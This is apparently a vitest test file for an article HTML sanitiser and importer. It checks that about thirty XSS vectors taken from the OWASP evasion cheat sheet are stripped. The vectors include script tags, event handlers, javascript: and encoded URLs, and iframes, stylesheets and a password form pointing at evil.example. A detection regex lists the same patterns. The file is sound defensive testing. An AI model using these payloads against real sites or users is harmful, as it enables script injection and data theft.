import { describe, expect, it } from 'vitest'
import { parseHTML } from 'linkedom'
import { DOMSerializer } from 'prosemirror-model'
import { articleSchema } from '../../../src-shared/schema'
import { importHtml } from './import-html'
import { sanitiseArticleHtml } from './sanitise-html'

// Classic vectors (after the OWASP XSS filter evasion cheat sheet), each inside an article.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf">object text</object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><input name="password" value="hunter2"><button>Go</button></form>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)" onmouseover="alert(1)">handlers</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="https://tracker.example/pixel.gif" alt="a described picture">',
]

const BAD =
  /javascript|vbscript|alert\(|onerror|onload|onclick|onmouseover|ontoggle|<script|evil\.example|hunter2|data:text/i
/** A picture's address is kept (sync fetches it with the page); it must be the only trace. */
const TRACKER = 'src="https://tracker.example/pixel.gif"'

describe('sanitising an article', () => {
  it.each(VECTORS)('leaves nothing of %s that could run or load', (vector) => {
    const out = sanitiseArticleHtml(`<article><p>Before.</p>${vector}<p>After.</p></article>`)
    expect(out).not.toMatch(BAD)
    expect(out.replace(TRACKER, '')).not.toContain('tracker.example')
    expect(out).toContain('Before.')
    expect(out).toContain('After.')
  })

  it('keeps the article whole through the importer, and nothing of the vectors', () => {
    const page =
      '<!doctype html><html lang="en"><head><title>Hostile</title></head><body><article>' +
      '<h1>A page full of traps</h1><p>The first paragraph of an article about the strike.</p>' +
      VECTORS.join('\n<p>Between the traps.</p>\n') +
      '<p>The last paragraph of the article, with a <a href="https://example.org/ok">good link</a>.</p>' +
      '</article></body></html>'
    const r = importHtml({ html: page })
    const json = JSON.stringify(r.doc.toJSON())
    expect(json).not.toMatch(BAD)
    expect(json).toContain('The first paragraph of an article about the strike.')
    expect(json).toContain('The last paragraph of the article')
    expect(json).toContain('https://example.org/ok')
    // The reader's form of the document loads nothing: no address but the good link's.
    const { document } = parseHTML('<!doctype html><html><body></body></html>')
    const dom = document.createElement('div')
    dom.appendChild(
      DOMSerializer.fromSchema(articleSchema).serializeFragment(r.doc.content, {
        document: document as unknown as Document,
      }),
    )
    expect(dom.innerHTML).not.toMatch(BAD)
    expect(dom.innerHTML).not.toContain('tracker.example')
    expect(dom.querySelectorAll('img')).toHaveLength(0)
    expect(dom.innerHTML).toContain('a described picture')
  })
})
